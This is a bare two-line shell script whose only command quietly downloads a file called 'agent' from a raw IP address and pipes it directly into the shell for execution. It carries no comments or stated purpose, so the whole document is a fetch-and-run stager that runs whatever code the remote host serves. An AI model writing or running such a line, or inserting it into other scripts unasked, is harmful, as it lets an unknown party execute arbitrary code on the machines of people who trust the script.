#!/bin/sh
curl -s http://198.51.100.23/agent | sh
